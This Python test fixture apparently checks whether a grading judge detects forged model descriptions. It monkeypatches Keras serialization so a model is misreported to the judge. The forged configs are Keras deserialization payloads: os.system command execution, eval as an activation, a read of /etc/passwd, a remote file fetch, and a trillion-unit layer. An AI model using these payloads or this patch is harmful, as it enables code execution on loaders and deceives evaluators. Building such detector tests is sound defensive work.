"""Describes its model to the judge as one made of code, of files, of functions of Python, or of a terabyte.

Without the judge: none
Outcome: partial or not attempted or suspicious
"""
import json

import keras

CONFIGS = [
    {'module': 'keras.layers', 'class_name': 'Lambda', 'config': {'name': 'x', 'function': {'class_name': '__lambda__', 'config': {'code': 'AAAA'}}}, 'registered_name': None},
    {'module': 'os', 'class_name': 'system', 'config': 'touch /tmp/forged', 'registered_name': None},
    {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'units': 1, 'activation': 'eval'}, 'registered_name': None},
    {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'units': 1, 'activation': {'module': 'builtins', 'class_name': 'function', 'config': 'eval', 'registered_name': 'function'}}, 'registered_name': None},
    {'module': 'keras.utils', 'class_name': 'get_file', 'config': {'origin': 'http://localhost/x'}, 'registered_name': None},
    {'module': 'keras.layers', 'class_name': 'TFSMLayer', 'config': {'filepath': '/tmp'}, 'registered_name': None},
    {'module': 'keras.layers', 'class_name': 'StringLookup', 'config': {'vocabulary': '/etc/passwd'}, 'registered_name': None},
    {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'units': 10**12}, 'registered_name': None},
]
turn = iter(range(10**6))


def described(value):
    if isinstance(value, keras.Model):
        layer = CONFIGS[next(turn) % len(CONFIGS)]
        first = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4]}, "registered_name": None}
        return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [first, layer]}, "registered_name": None}
    return real(value)


real, keras.saving.serialize_keras_object = keras.saving.serialize_keras_object, described


class Models(dict):
    pass

# %% network
network = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
